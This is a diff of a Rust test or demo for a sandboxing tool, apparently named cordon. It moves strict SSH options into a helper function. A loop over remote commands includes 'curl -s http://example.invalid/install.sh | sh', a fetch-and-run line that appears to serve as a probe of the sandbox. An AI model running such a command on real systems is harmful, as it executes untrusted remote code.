@@ -158,20 +158,8 @@ pub fn run() -> Result<()> {
     );
     let ssh = |remote: &str| {
         ci.command("ssh")
-            .args([
-                "-F",
-                "none",
-                "-o",
-                "StrictHostKeyChecking=yes",
-                "-o",
-                "UserKnownHostsFile=/dev/null",
-                "-o",
-                "GlobalKnownHostsFile=/run/cordon-demo/ssh/known_hosts",
-                "-o",
-                "BatchMode=yes",
-                &format!("deploy@{SSH_HOST}"),
-                remote,
-            ])
+            .args(cordon_tests::ssh_strict_opts(Path::new("/run/cordon-demo/ssh/known_hosts")))
+            .args([&format!("deploy@{SSH_HOST}"), remote])
             .output()
     };
     for remote in ["cat /run/cordon-demo/ssh/app.log", "curl -s http://example.invalid/install.sh | sh"] {
